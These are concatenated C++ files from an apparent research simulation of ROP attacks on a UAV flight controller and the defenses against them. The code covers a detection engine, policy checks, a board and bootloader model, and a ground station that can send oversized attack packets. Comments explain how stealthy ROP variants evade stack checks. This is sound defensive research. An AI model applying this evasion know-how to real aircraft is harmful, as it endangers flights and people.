  /// `raw_words`. Unbounded functions defer to the generic CFI check.
  bool ret_allowed(int index, std::uint32_t raw_words) const;
  bool ret_unbounded(int index) const;

 private:
  struct Range {
    std::uint32_t lo_words = 0;  ///< inclusive
    std::uint32_t hi_words = 0;  ///< exclusive
    std::uint32_t index = 0;     ///< blob function index
  };

  std::vector<Range> ranges_;           ///< sorted by lo_words
  std::vector<IoBitset> io_;            ///< by blob index
  std::vector<std::uint8_t> io_unbounded_;
  std::vector<std::vector<std::uint32_t>> ret_words_;  ///< sorted, unique
  std::vector<std::uint8_t> ret_unbounded_;
};

}  // namespace mavr::detect
