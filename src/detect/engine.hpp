// On-board runtime intrusion detection (DESIGN.md §10).
//
// The paper argues (§IV-D, §VII) that V2/V3 are *stealthy*: by repairing
// the smashed stack slots and returning cleanly they evade the obvious
// stack-corruption checks that catch a traditional ROP chain, leaving
// randomization as the only defense. This module builds exactly the
// detection layer that argument is about — four composable detectors fed
// from the avr::Tracer hooks in Cpu::step — so the claim can be measured
// instead of asserted:
//
//  * shadow stack    — mirrors every CALL/IRQ push and flags a RET whose
//    popped target differs from the mirrored value. The ROP pivot's first
//    ret pops a gadget address no call pushed, so this catches V1, V2 and
//    V3 at the pivot itself.
//  * SP bounds       — edge-triggered monitor on the legal stack region
//    [RAMEND - reserve + 1, RAMEND]. The V3 trampoline pivots SP into
//    unused low SRAM and must cross the floor; the V2 pivot lands *inside*
//    the legal region (numerically at the victim frame's own floor — see
//    trace/watchpoints.hpp), which is precisely why SP bounds alone cannot
//    catch it.
//  * return-edge CFI — validates every RET target against the set of
//    call-site successors recovered by linear disassembly of the programmed
//    image (AVR's two-byte alignment makes the sweep reliable; same
//    technique as attack::GadgetFinder). Gadget entry points are not call
//    successors, so all three variants trip it. RETI is exempt: interrupts
//    return to arbitrary interrupted PCs.
//  * canary / stack-slot integrity — remembers the 3 return-address bytes
//    each CALL/IRQ pushes and re-checks them against memory only when the
//    core faults (crash-time forensics over live frames plus a bounded
//    ring of recently freed ones). V1 leaves its smashed slot behind and
//    crashes → caught; V2/V3 never fault and their epilogue pops are
//    deliberately *not* verified at frame-free time — the stealthy chain's
//    clean return would be indistinguishable there from the repair the
//    paper describes, and checking it would contradict the detector this
//    models ("what the paper says catches V1 but not V2").
//
// The engine is an avr::Tracer: arm() claims the Cpu's tracer slot.
// Verdicts latch (tripped()) until reset_dynamic(); the master processor
// polls tripped() in its watchdog service and answers a trip with the same
// reflash ladder it uses for crash/quiet detection (defense/master.cpp).
#pragma once

#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "avr/cpu.hpp"
#include "detect/policy.hpp"

namespace mavr::detect {

/// Detector identity carried by every verdict.
enum class Detector : std::uint8_t {
  kCanary,
  kShadowStack,
  kSpBounds,
  kReturnCfi,
  kPolicyIo,   ///< derived policy: store to I/O outside the function's set
  kPolicyRet,  ///< derived policy: ret target outside the function's sites
};

/// Bitmask selecting which detectors an Engine arms.
inline constexpr unsigned kDetectNone = 0;
inline constexpr unsigned kDetectCanary = 1u << 0;
inline constexpr unsigned kDetectShadowStack = 1u << 1;
inline constexpr unsigned kDetectSpBounds = 1u << 2;
inline constexpr unsigned kDetectReturnCfi = 1u << 3;
/// Analysis-derived per-function policy (I/O privilege + refined return
/// sites). Deliberately *not* part of kDetectAll: it only arms once a
/// MaterializedPolicy has been loaded, and the generic set's semantics
/// (and every test pinning them) stay untouched.
inline constexpr unsigned kDetectPolicy = 1u << 4;
inline constexpr unsigned kDetectAll =
    kDetectCanary | kDetectShadowStack | kDetectSpBounds | kDetectReturnCfi;

const char* detector_name(Detector detector);

/// Human/CSV form of a detector mask: "canary+shadow+sp-bounds+cfi",
/// "none" for the empty set.
std::string detector_set_name(unsigned mask);

/// Parses a comma-separated detector list ("shadow,cfi"), or the words
/// "all" / "none". Returns nullopt on any unknown token.
std::optional<unsigned> parse_detector_set(std::string_view text);

/// One detection event.
struct Verdict {
  Detector detector = Detector::kCanary;
  std::uint64_t cycle = 0;     ///< Cpu cycle count when the verdict fired
  std::uint32_t pc_words = 0;  ///< PC of the offending instruction
  std::uint32_t value = 0;     ///< detector-specific: bad target / SP / slot
  const char* reason = "";     ///< static description (no allocation in hooks)
};

struct EngineConfig {
  unsigned detectors = kDetectAll;
  /// Legal stack region is [RAMEND - stack_reserve_bytes + 1, RAMEND].
  std::uint16_t stack_reserve_bytes = 512;
  /// Recently-freed frame records kept for crash-time canary forensics.
  std::size_t freed_ring = 16;
  /// Verdict log cap (the tripped() latch and trip counter keep counting).
  std::size_t max_verdicts = 16;
};

class Engine : public avr::Tracer {
 public:
  explicit Engine(const EngineConfig& config = {});

  /// Claims `cpu`'s tracer slot and resets dynamic state. The engine must
  /// outlive the attachment (or be disarm()ed first).
  void arm(avr::Cpu& cpu);
  void disarm();

  /// (Re)builds the return-edge CFI target set by linear disassembly of
  /// the image actually programmed — randomization permutes the call
  /// sites, so the master rebuilds after every reflash. `text_end` caps
  /// the sweep (bytes); it survives randomization unchanged.
  void rebuild(std::span<const std::uint8_t> image, std::uint32_t text_end);

  /// Loads an analysis-derived per-function policy bound to the image
  /// currently programmed (see detect::MaterializedPolicy). The policy
  /// detectors only fire while kDetectPolicy is armed *and* a non-empty
  /// policy is loaded; the master re-materializes and re-loads after
  /// every reflash, exactly like the CFI rebuild.
  void load_policy(MaterializedPolicy policy) {
    policy_ = std::move(policy);
  }
  void clear_policy() { policy_ = MaterializedPolicy{}; }
  bool has_policy() const { return !policy_.empty(); }

  /// Clears per-run state (shadow stack, frame records, SP edge state,
  /// the tripped() latch) for a board reset/reflash. The verdict log and
  /// total_trips() survive so campaigns can attribute a detection after
  /// the master's recovery already cleared the latch.
  void reset_dynamic();

  /// True once any detector fired since the last reset_dynamic().
  bool tripped() const { return tripped_; }
  /// Verdicts fired over the engine's lifetime (capped at max_verdicts).
  const std::vector<Verdict>& verdicts() const { return verdicts_; }
  /// Total verdicts fired over the engine's lifetime (uncapped).
  std::uint64_t total_trips() const { return total_trips_; }

  unsigned detectors() const { return config_.detectors; }
  std::uint16_t stack_lo() const { return stack_lo_; }
  std::uint16_t stack_hi() const { return stack_hi_; }

  // --- avr::Tracer hooks ------------------------------------------------------
  void on_call(const avr::Cpu& cpu, std::uint32_t from_words,
               std::uint32_t to_words, std::uint32_t ret_words) override;
  void on_irq(const avr::Cpu& cpu, std::uint8_t slot,
              std::uint32_t from_words) override;
  void on_ret(const avr::Cpu& cpu, std::uint32_t from_words,
              std::uint32_t to_words, std::uint32_t raw_words,
              bool reti) override;
  void on_sp_change(const avr::Cpu& cpu, std::uint16_t old_sp,
                    std::uint16_t new_sp) override;
  void on_store(const avr::Cpu& cpu, std::uint32_t addr,
                std::uint8_t value) override;
  void on_fault(const avr::Cpu& cpu, const avr::FaultInfo& info) override;

 private:
  /// One pushed return address the canary detector remembers: the slot's
  /// data-space address and the bytes the hardware pushed there.
  struct FrameRecord {
    std::uint16_t slot = 0;      ///< lowest address of the 3-byte slot
    std::uint8_t bytes[3] = {};  ///< as stored (big-endian toward ascending)
  };

  void record(Detector detector, const avr::Cpu& cpu, std::uint32_t pc_words,
              std::uint32_t value, const char* reason);
  void remember_frame(const avr::Cpu& cpu);
  bool cfi_valid(std::uint32_t raw_words) const;

  EngineConfig config_;
  avr::Cpu* cpu_ = nullptr;
  std::uint16_t stack_lo_ = 0;
  std::uint16_t stack_hi_ = 0;
  std::uint8_t push_bytes_ = 3;  ///< bytes one CALL pushes (McuSpec)

  // Dynamic state (cleared by reset_dynamic).
  std::vector<std::uint32_t> shadow_;   ///< mirrored return addresses
  std::vector<FrameRecord> frames_;     ///< live frames, outermost first
  std::vector<FrameRecord> freed_;      ///< circular ring of freed frames
  std::size_t freed_next_ = 0;
  bool tripped_ = false;

  // Lifetime state (survives reset_dynamic).
  std::vector<Verdict> verdicts_;
  std::uint64_t total_trips_ = 0;

  // Return-edge CFI: bit per flash word that is a valid RET target.
  std::vector<std::uint64_t> cfi_bits_;
  std::uint32_t cfi_words_ = 0;  ///< sweep extent; 0 = no image built yet

  // Analysis-derived per-function policy (empty = none loaded).
  MaterializedPolicy policy_;
};

}  // namespace mavr::detect
