#include "detect/policy.hpp"

#include <algorithm>
#include <bit>

#include "support/error.hpp"

namespace mavr::detect {

std::uint32_t io_bit_count(const IoBitset& bits) {
  std::uint32_t count = 0;
  for (std::uint64_t word : bits) count += std::popcount(word);
  return count;
}

MaterializedPolicy MaterializedPolicy::materialize(
    const PolicySet& policy, std::span<const std::uint32_t> addrs,
    std::span<const std::uint32_t> sizes) {
  MAVR_REQUIRE(policy.functions.size() == addrs.size() &&
                   addrs.size() == sizes.size(),
               "policy/address/size arrays must be parallel");
  MaterializedPolicy out;
  const std::size_t n = policy.functions.size();
  out.ranges_.reserve(n);
  out.io_.resize(n);
  out.io_unbounded_.resize(n);
  out.ret_words_.resize(n);
  out.ret_unbounded_.resize(n);
  for (std::size_t i = 0; i < n; ++i) {
    const FuncPolicy& fp = policy.functions[i];
    Range r;
    r.lo_words = addrs[i] / 2;
    r.hi_words = (addrs[i] + sizes[i]) / 2;
    r.index = static_cast<std::uint32_t>(i);
    out.ranges_.push_back(r);
    out.io_[i] = fp.io_allow;
    out.io_unbounded_[i] = fp.io_unbounded ? 1 : 0;
    out.ret_unbounded_[i] = fp.ret_unbounded ? 1 : 0;
    std::vector<std::uint32_t>& words = out.ret_words_[i];
    words.reserve(fp.ret_sites.size());
    for (const PolicyRetSite& site : fp.ret_sites) {
      MAVR_REQUIRE(site.caller_index < addrs.size(),
                   "ret site names a caller outside the policy");
      words.push_back((addrs[site.caller_index] + site.offset) / 2);
    }
    std::sort(words.begin(), words.end());
    words.erase(std::unique(words.begin(), words.end()), words.end());
  }
  std::sort(out.ranges_.begin(), out.ranges_.end(),
            [](const Range& a, const Range& b) {
              return a.lo_words < b.lo_words;
            });
  return out;
}

int MaterializedPolicy::function_containing(std::uint32_t pc_words) const {
  // First range starting past pc, then step back — the standard
  // upper-bound probe over disjoint [lo, hi) ranges.
  const auto it = std::upper_bound(
      ranges_.begin(), ranges_.end(), pc_words,
      [](std::uint32_t pc, const Range& r) { return pc < r.lo_words; });
  if (it == ranges_.begin()) return -1;
  const Range& r = *(it - 1);
  if (pc_words >= r.lo_words && pc_words < r.hi_words) {
    return static_cast<int>(r.index);
  }
  return -1;
}

bool MaterializedPolicy::io_allowed(int index, std::uint32_t addr) const {
  if (index < 0 || static_cast<std::size_t>(index) >= io_.size()) return true;
  if (io_unbounded_[static_cast<std::size_t>(index)]) return true;
  if (addr >= kPolicyIoSpan) return true;
  return io_bit_test(io_[static_cast<std::size_t>(index)],
                     static_cast<std::uint16_t>(addr));
}

bool MaterializedPolicy::ret_allowed(int index,
                                     std::uint32_t raw_words) const {
  if (index < 0 || static_cast<std::size_t>(index) >= ret_words_.size()) {
    return true;
  }
  const std::size_t i = static_cast<std::size_t>(index);
  if (ret_unbounded_[i]) return true;
  return std::binary_search(ret_words_[i].begin(), ret_words_[i].end(),
                            raw_words);
}

bool MaterializedPolicy::ret_unbounded(int index) const {
  if (index < 0 || static_cast<std::size_t>(index) >= ret_unbounded_.size()) {
    return true;
  }
  return ret_unbounded_[static_cast<std::size_t>(index)] != 0;
}

}  // namespace mavr::detect
