// Ground control station model (paper Fig. 3).
//
// Talks MAVLink to the board over its telemetry USART. Doubles as the
// *malicious* ground station of the attack scenario: Attack payloads are
// just packets sent through the same interface.
//
// Also implements the paper's detectability criterion: the GCS watches the
// telemetry stream for gaps and garbage — a traditional (non-stealthy) ROP
// attack makes the stream stop, a stealthy one does not.
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

#include "mavlink/mavlink.hpp"
#include "sim/board.hpp"

namespace mavr::sim {

class GroundStation {
 public:
  explicit GroundStation(Board& board, std::uint8_t sysid = 255)
      : board_(board), sysid_(sysid) {}

  /// Sends one MAVLink packet to the UAV.
  void send(const mavlink::Packet& packet);

  /// Convenience: heartbeat, PARAM_SET and raw payload senders.
  void send_heartbeat();
  void send_param_set(const mavlink::ParamSet& msg);
  /// Sends a PARAM_SET-framed packet with an arbitrary payload — the
  /// attacker's oversized-message capability (paper §IV-B).
  void send_raw_param_set(const support::Bytes& payload);

  /// Drains the telemetry line and parses everything received.
  std::vector<mavlink::Packet> poll();

  /// Most recent RAW_IMU seen (what the operator's instruments display).
  const std::optional<mavlink::RawImu>& last_imu() const { return last_imu_; }

  /// Packets received so far.
  std::uint64_t packets_received() const { return packets_received_; }

  /// Telemetry health: bytes that failed to parse (framing garbage).
  std::uint64_t garbage_bytes() const {
    return parser_.dropped_bytes() + parser_.crc_errors();
  }

 private:
  Board& board_;
  std::uint8_t sysid_;
  std::uint8_t seq_ = 0;
  mavlink::Parser parser_;
  std::optional<mavlink::RawImu> last_imu_;
  std::uint64_t packets_received_ = 0;
};

}  // namespace mavr::sim
