#include "sim/flight.hpp"

#include <cmath>

namespace mavr::sim {

namespace {
constexpr double kCountsPerDps = 16.0;
constexpr double kServoAuthorityDps = 80.0;  // full deflection roll accel
constexpr double kDamping = 2.0;
constexpr double kDepartureDeg = 75.0;
}  // namespace

FlightModel::FlightModel(Board& board, std::uint64_t seed)
    : board_(board), gust_rng_(seed) {}

void FlightModel::step(double dt_s) {
  // Servo channel 0 commands roll: 128 = neutral.
  const double deflection = (static_cast<double>(board_.servo(0).value()) -
                             128.0) / 128.0;

  // Slowly varying gust disturbance, uniform on [-1, 1). The previous
  // ad-hoc xorshift reduced its state `% 2001`, which is both modulo-biased
  // and correlated in the low bits; Rng::unit() draws from the high bits of
  // an unbiased stream and stays deterministic for a fixed seed.
  const double gust = 2.0 * gust_rng_.unit() - 1.0;
  state_.disturbance += (gust * 5.0 - state_.disturbance) * 0.1;

  // The firmware's controller *subtracts* measured rate from the setpoint
  // and deflects accordingly, so positive deflection must damp positive
  // rate: rate' = disturbance - authority*deflection - damping*rate.
  const double accel = state_.disturbance -
                       kServoAuthorityDps * deflection -
                       kDamping * state_.roll_rate_dps;
  state_.roll_rate_dps += accel * dt_s;
  state_.roll_deg += state_.roll_rate_dps * dt_s;
  if (std::abs(state_.roll_deg) > kDepartureDeg) state_.departed = true;

  board_.set_gyro(0, gyro_counts());
  board_.set_gyro(1, 0);
  board_.set_gyro(2, 0);
  board_.set_acc(0, static_cast<std::int16_t>(state_.roll_deg * 10));
  board_.set_acc(1, 0);
  board_.set_acc(2, 1000);
}

std::int16_t FlightModel::gyro_counts() const {
  double counts = state_.roll_rate_dps * kCountsPerDps;
  if (counts > 32000) counts = 32000;
  if (counts < -32000) counts = -32000;
  return static_cast<std::int16_t>(counts);
}

}  // namespace mavr::sim
