#include "sim/board.hpp"

#include "firmware/generator.hpp"
#include "support/error.hpp"

namespace mavr::sim {

using firmware::BoardIo;

Board::Board(std::uint32_t baud) : cpu_(avr::atmega2560()) {
  avr::IoBus& bus = cpu_.io();
  uart_ = std::make_unique<avr::Uart>(
      bus, avr::usart0_config(cpu_.spec().clock_hz, baud));
  for (int i = 0; i < 3; ++i) {
    gyro_[i] = std::make_unique<Sensor16>(
        bus, static_cast<std::uint16_t>(BoardIo::kGyroX + 2 * i));
    acc_[i] = std::make_unique<Sensor16>(
        bus, static_cast<std::uint16_t>(BoardIo::kAccX + 2 * i));
  }
  for (int i = 0; i < 4; ++i) {
    servo_[i] = std::make_unique<avr::OutputPort>(
        bus, static_cast<std::uint16_t>(BoardIo::kServo0 + i),
        /*record_history=*/true);
  }
  feed_ = std::make_unique<avr::OutputPort>(bus, BoardIo::kFeed,
                                            /*record_history=*/false);
  led_ = std::make_unique<avr::OutputPort>(bus, BoardIo::kLed,
                                           /*record_history=*/false);
  timer_ = std::make_unique<avr::Timer>(bus, firmware::kTimerPeriodCycles);
  cpu_.set_irq_line(
      firmware::kTimerVector,
      [](void* t) { return static_cast<avr::Timer*>(t)->take_irq(); },
      timer_.get());
}

void Board::flash_image(std::span<const std::uint8_t> image) {
  MAVR_REQUIRE(!readout_protected_,
               "direct flashing refused: readout protection set "
               "(use the bootloader)");
  cpu_.flash().erase();
  cpu_.flash().program(image);
  ++flash_write_cycles_;
  reset();
}

support::Bytes Board::read_flash() const {
  MAVR_REQUIRE(!readout_protected_,
               "flash readout blocked by protection fuse");
  return cpu_.flash().dump();
}

void Board::bootloader_enter() {
  in_bootloader_ = true;
  erased_this_session_ = false;
}

void Board::bootloader_erase() {
  MAVR_REQUIRE(in_bootloader_, "not in bootloader");
  cpu_.flash().erase();
  // Chip erase clears the lock bits on the real part; modelling that here
  // is what makes readback verification of freshly written pages possible
  // before the master re-arms the fuse.
  readout_protected_ = false;
  erased_this_session_ = true;
  ++flash_write_cycles_;
}

void Board::bootloader_write_page(std::uint32_t byte_addr,
                                  std::span<const std::uint8_t> page) {
  const std::uint32_t page_bytes = cpu_.spec().flash_page_bytes;
  MAVR_REQUIRE(in_bootloader_, "not in bootloader");
  MAVR_REQUIRE(erased_this_session_, "write before chip erase");
  MAVR_REQUIRE(page.size() <= page_bytes, "page larger than flash page");
  MAVR_REQUIRE(byte_addr % page_bytes == 0,
               "page address not page aligned");
  MAVR_REQUIRE(byte_addr + page.size() <= cpu_.spec().flash_bytes,
               "page write beyond end of flash");
  if (faults_ && !faults_->program_succeeds(flash_write_cycles_)) {
    return;  // program pulse failed; the page retains its erased contents
  }
  cpu_.flash().program_page(byte_addr, page);
}

support::Bytes Board::bootloader_read_page(std::uint32_t byte_addr,
                                           std::uint32_t len) const {
  MAVR_REQUIRE(in_bootloader_, "not in bootloader");
  MAVR_REQUIRE(!readout_protected_,
               "bootloader readback blocked by protection fuse");
  MAVR_REQUIRE(byte_addr + len <= cpu_.spec().flash_bytes,
               "readback beyond end of flash");
  support::Bytes out(len);
  for (std::uint32_t i = 0; i < len; ++i) {
    out[i] = cpu_.flash().byte(byte_addr + i);
  }
  return out;
}

void Board::bootloader_run_application() {
  MAVR_REQUIRE(in_bootloader_, "not in bootloader");
  in_bootloader_ = false;
  reset();
}

void Board::reset() { cpu_.reset(); }

void Board::run_cycles(std::uint64_t cycles) {
  if (in_bootloader_) return;  // core held in the bootloader stub
  cpu_.run(cycles);
}

void Board::set_trace_hook(std::function<void(const avr::Cpu&)> hook) {
  if (hook) {
    hook_tracer_ = std::make_unique<HookTracer>(std::move(hook));
    cpu_.set_tracer(hook_tracer_.get());
    return;
  }
  // Only release the tracer slot if it is still ours — a trace::Session
  // attached after us keeps its hooks.
  if (hook_tracer_ && cpu_.tracer() == hook_tracer_.get()) {
    cpu_.set_tracer(nullptr);
  }
  hook_tracer_.reset();
}

}  // namespace mavr::sim
