// Minimal fixed-wing flight dynamics feeding the simulated sensors.
//
// Purpose in the reproduction: make the paper's failure modes *observable*
// — a stalled control loop (traditional ROP smashing the stack) lets the
// attitude diverge until the airframe departs controlled flight, while the
// stealthy attack keeps the loop (and the flight) alive as the attacker
// skews the gyro calibration.
#pragma once

#include <cstdint>

#include "sim/board.hpp"
#include "support/rng.hpp"

namespace mavr::sim {

struct FlightState {
  double roll_deg = 0;      ///< bank angle
  double roll_rate_dps = 0; ///< what the gyro measures
  double disturbance = 0;   ///< slowly varying gust term
  bool departed = false;    ///< |roll| exceeded the safe envelope
};

/// Integrates a 1-DOF roll model and exchanges data with the board:
/// servo command in, gyro reading out.
class FlightModel {
 public:
  explicit FlightModel(Board& board, std::uint64_t seed = 42);

  /// Advances the airframe by `dt_s` seconds and updates the board's gyro
  /// inputs from the new state.
  void step(double dt_s);

  const FlightState& state() const { return state_; }

  /// Gyro counts the sensor reports for the current roll rate
  /// (16 counts per deg/s, the scale the firmware's P loop assumes).
  std::int16_t gyro_counts() const;

 private:
  Board& board_;
  FlightState state_;
  support::Rng gust_rng_;  ///< unbiased gust draws, deterministic per seed
};

}  // namespace mavr::sim
