// Simulated ArduPilot Mega 2.5 board: the ATmega2560 application processor
// wired to its telemetry USART, sensor front-ends, servo outputs and the
// MAVR feed line (paper Fig. 7/8).
//
// Also models the two hardware security mechanisms the defense relies on:
//  * the serial *bootloader* the master processor programs the application
//    processor through (paper §VI-B4) — entered by asserting RESET, pages
//    written to flash, wear counted against the 10,000-cycle endurance;
//  * the *readout-protection fuse* (paper §V-A3): once set, any attempt to
//    dump the flash (i.e. the randomized binary) is refused.
#pragma once

#include <cstdint>
#include <functional>
#include <memory>

#include "avr/cpu.hpp"
#include "avr/gpio.hpp"
#include "avr/timer.hpp"
#include "avr/uart.hpp"
#include "firmware/generator.hpp"
#include "support/bytes.hpp"
#include "support/fault.hpp"

namespace mavr::sim {

/// One 16-bit little-endian sensor channel exposed as two input ports.
class Sensor16 {
 public:
  Sensor16(avr::IoBus& bus, std::uint16_t addr)
      : lo_(bus, addr), hi_(bus, static_cast<std::uint16_t>(addr + 1)) {}

  void set(std::int16_t value) {
    lo_.set(static_cast<std::uint8_t>(value & 0xFF));
    hi_.set(static_cast<std::uint8_t>((value >> 8) & 0xFF));
  }

 private:
  avr::InputPort lo_;
  avr::InputPort hi_;
};

class Board {
 public:
  /// `baud` is the telemetry line rate (paper prototype: 115200).
  explicit Board(std::uint32_t baud = 115200);

  // --- Programming ----------------------------------------------------------
  /// Direct flash programming (host flashing path; counts one write cycle).
  /// Refused while readout protection is set and the caller is not the
  /// bootloader — use the bootloader interface instead.
  void flash_image(std::span<const std::uint8_t> image);

  /// Enables the readout-protection fuse (irreversible short of a chip
  /// erase, like the real lock bits).
  void set_readout_protection() { readout_protected_ = true; }
  bool readout_protected() const { return readout_protected_; }

  /// Dumps the flash contents — the attacker's static-analysis path.
  /// Throws support::PreconditionError when the fuse is set (paper §V-D:
  /// "there is no way for an attacker to gain access to the randomized
  /// code").
  support::Bytes read_flash() const;

  // --- Bootloader (master-processor facing) ----------------------------------
  /// Asserts RESET and sends the bootloader magic: core halts, flash
  /// writable page by page.
  void bootloader_enter();
  bool in_bootloader() const { return in_bootloader_; }
  /// Chip erase (begins a programming cycle; counts flash wear). Like the
  /// real part's lock bits, the erase also clears the readout-protection
  /// fuse — which is what lets the master verify its pages by readback
  /// before re-arming the fuse.
  void bootloader_erase();
  /// Programs one page. `byte_addr` must be page aligned and the write
  /// must fit inside the part's flash — both validated up front. When a
  /// fault plane is attached, the program pulse can fail and leave the
  /// page erased (the master's readback verify is what catches this).
  void bootloader_write_page(std::uint32_t byte_addr,
                             std::span<const std::uint8_t> page);
  /// Reads `len` flash bytes back through the bootloader (the master's
  /// page-verify path). Refused once the readout-protection fuse is set.
  support::Bytes bootloader_read_page(std::uint32_t byte_addr,
                                      std::uint32_t len) const;
  /// Leaves the bootloader and restarts the application from reset.
  void bootloader_run_application();

  /// Attaches (or clears, with nullptr) a fault-injection plane on the
  /// internal-flash programming path. The plane must outlive the board.
  void attach_faults(support::FaultPlane* plane) { faults_ = plane; }

  /// Completed flash programming cycles — measured against the part's
  /// 10,000-cycle endurance (paper §VI-A).
  std::uint32_t flash_write_cycles() const { return flash_write_cycles_; }

  // --- Execution ----------------------------------------------------------------
  /// Hard reset of the application core (data memory cleared, PC = 0).
  void reset();

  /// Runs the application for `cycles` CPU cycles (no-op in bootloader).
  void run_cycles(std::uint64_t cycles);

  /// True when the core faulted (invalid opcode — "executing garbage").
  bool crashed() const {
    return cpu_.state() == avr::CpuState::Faulted;
  }

  /// Per-instruction observation hook (used by the attacker's replica run
  /// to locate the vulnerable frame). Pass nullptr to remove. Implemented
  /// as an avr::Tracer retire hook, so it observes the Cpu with pc() at the
  /// next instruction to execute — the same point the old pre-step loop
  /// exposed. Installing a hook claims the Cpu's tracer slot; for composite
  /// sinks attach a trace::Session to cpu() directly instead.
  void set_trace_hook(std::function<void(const avr::Cpu&)> hook);

  // --- Peripherals ----------------------------------------------------------------
  avr::Cpu& cpu() { return cpu_; }
  const avr::Cpu& cpu() const { return cpu_; }
  avr::Uart& telemetry() { return *uart_; }

  void set_gyro(int axis, std::int16_t value) { gyro_[axis]->set(value); }
  void set_acc(int axis, std::int16_t value) { acc_[axis]->set(value); }

  avr::OutputPort& servo(int channel) { return *servo_[channel]; }
  avr::OutputPort& feed_line() { return *feed_; }
  avr::Timer& tick_timer() { return *timer_; }

 private:
  /// Adapts the legacy std::function hook onto the Tracer interface.
  class HookTracer : public avr::Tracer {
   public:
    explicit HookTracer(std::function<void(const avr::Cpu&)> hook)
        : hook_(std::move(hook)) {}
    void on_retire(const avr::Cpu& cpu, std::uint32_t, const avr::Instr&,
                   std::uint32_t) override {
      hook_(cpu);
    }

   private:
    std::function<void(const avr::Cpu&)> hook_;
  };

  avr::Cpu cpu_;
  std::unique_ptr<avr::Uart> uart_;
  std::unique_ptr<Sensor16> gyro_[3];
  std::unique_ptr<Sensor16> acc_[3];
  std::unique_ptr<avr::OutputPort> servo_[4];
  std::unique_ptr<avr::OutputPort> feed_;
  std::unique_ptr<avr::OutputPort> led_;
  std::unique_ptr<avr::Timer> timer_;
  std::unique_ptr<HookTracer> hook_tracer_;
  support::FaultPlane* faults_ = nullptr;
  bool readout_protected_ = false;
  bool in_bootloader_ = false;
  bool erased_this_session_ = false;
  std::uint32_t flash_write_cycles_ = 0;
};

}  // namespace mavr::sim
