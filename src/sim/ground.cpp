#include "sim/ground.hpp"

namespace mavr::sim {

void GroundStation::send(const mavlink::Packet& packet) {
  const support::Bytes bytes = mavlink::encode(packet);
  board_.telemetry().host_send(bytes);
}

void GroundStation::send_heartbeat() {
  mavlink::Heartbeat hb;
  send(hb.to_packet(sysid_, seq_++));
}

void GroundStation::send_param_set(const mavlink::ParamSet& msg) {
  send(msg.to_packet(sysid_, seq_++));
}

void GroundStation::send_raw_param_set(const support::Bytes& payload) {
  mavlink::Packet p;
  p.sysid = sysid_;
  p.seq = seq_++;
  p.compid = 1;
  p.msgid = static_cast<std::uint8_t>(mavlink::MsgId::ParamSet);
  p.payload = payload;
  send(p);
}

std::vector<mavlink::Packet> GroundStation::poll() {
  const support::Bytes rx = board_.telemetry().host_take_tx();
  std::vector<mavlink::Packet> packets = parser_.push(rx);
  for (const mavlink::Packet& p : packets) {
    ++packets_received_;
    if (p.id() == mavlink::MsgId::RawImu) {
      last_imu_ = mavlink::RawImu::from_packet(p);
    }
  }
  return packets;
}

}  // namespace mavr::sim
