#include "toolchain/encode.hpp"

namespace mavr::toolchain {

using avr::Op;

namespace {

std::uint16_t with_d5(std::uint16_t base, std::uint8_t rd) {
  MAVR_REQUIRE(rd < 32, "register out of range");
  return static_cast<std::uint16_t>(base | (rd << 4));
}

std::uint16_t with_r5(std::uint16_t word, std::uint8_t rr) {
  MAVR_REQUIRE(rr < 32, "register out of range");
  return static_cast<std::uint16_t>(word | ((rr & 0x10) << 5) | (rr & 0x0F));
}

}  // namespace

std::uint16_t enc_two_reg(Op op, std::uint8_t rd, std::uint8_t rr) {
  std::uint16_t base = 0;
  switch (op) {
    case Op::Cpc: base = 0x0400; break;
    case Op::Sbc: base = 0x0800; break;
    case Op::Add: base = 0x0C00; break;
    case Op::Cpse: base = 0x1000; break;
    case Op::Cp: base = 0x1400; break;
    case Op::Sub: base = 0x1800; break;
    case Op::Adc: base = 0x1C00; break;
    case Op::And: base = 0x2000; break;
    case Op::Eor: base = 0x2400; break;
    case Op::Or: base = 0x2800; break;
    case Op::Mov: base = 0x2C00; break;
    case Op::Mul: base = 0x9C00; break;
    default: MAVR_REQUIRE(false, "not a two-register op");
  }
  return with_r5(with_d5(base, rd), rr);
}

std::uint16_t enc_imm(Op op, std::uint8_t rd, std::uint8_t k) {
  MAVR_REQUIRE(rd >= 16 && rd < 32, "immediate ops use r16..r31");
  std::uint16_t base = 0;
  switch (op) {
    case Op::Cpi: base = 0x3000; break;
    case Op::Sbci: base = 0x4000; break;
    case Op::Subi: base = 0x5000; break;
    case Op::Ori: base = 0x6000; break;
    case Op::Andi: base = 0x7000; break;
    case Op::Ldi: base = 0xE000; break;
    default: MAVR_REQUIRE(false, "not an immediate op");
  }
  return static_cast<std::uint16_t>(base | ((k & 0xF0) << 4) |
                                    ((rd - 16) << 4) | (k & 0x0F));
}

std::uint16_t enc_one_reg(Op op, std::uint8_t rd) {
  std::uint16_t suffix = 0;
  switch (op) {
    case Op::Com: suffix = 0x0; break;
    case Op::Neg: suffix = 0x1; break;
    case Op::Swap: suffix = 0x2; break;
    case Op::Inc: suffix = 0x3; break;
    case Op::Asr: suffix = 0x5; break;
    case Op::Lsr: suffix = 0x6; break;
    case Op::Ror: suffix = 0x7; break;
    case Op::Dec: suffix = 0xA; break;
    default: MAVR_REQUIRE(false, "not a one-register op");
  }
  return static_cast<std::uint16_t>(with_d5(0x9400, rd) | suffix);
}

std::uint16_t enc_movw(std::uint8_t rd, std::uint8_t rr) {
  MAVR_REQUIRE(rd % 2 == 0 && rr % 2 == 0 && rd < 32 && rr < 32,
               "MOVW uses even register pairs");
  return static_cast<std::uint16_t>(0x0100 | ((rd / 2) << 4) | (rr / 2));
}

std::uint16_t enc_adiw(Op op, std::uint8_t rd, std::uint8_t k) {
  MAVR_REQUIRE(rd == 24 || rd == 26 || rd == 28 || rd == 30,
               "ADIW/SBIW use r24/r26/r28/r30");
  MAVR_REQUIRE(k < 64, "ADIW/SBIW immediate out of range");
  const std::uint16_t base = (op == Op::Adiw) ? 0x9600 : 0x9700;
  MAVR_REQUIRE(op == Op::Adiw || op == Op::Sbiw, "not ADIW/SBIW");
  return static_cast<std::uint16_t>(base | ((k & 0x30) << 2) |
                                    (((rd - 24) / 2) << 4) | (k & 0x0F));
}

std::uint16_t enc_in(std::uint8_t rd, std::uint8_t io_addr) {
  MAVR_REQUIRE(io_addr < 64, "IN address out of range");
  return static_cast<std::uint16_t>(with_d5(0xB000, rd) |
                                    ((io_addr & 0x30) << 5) | (io_addr & 0x0F));
}

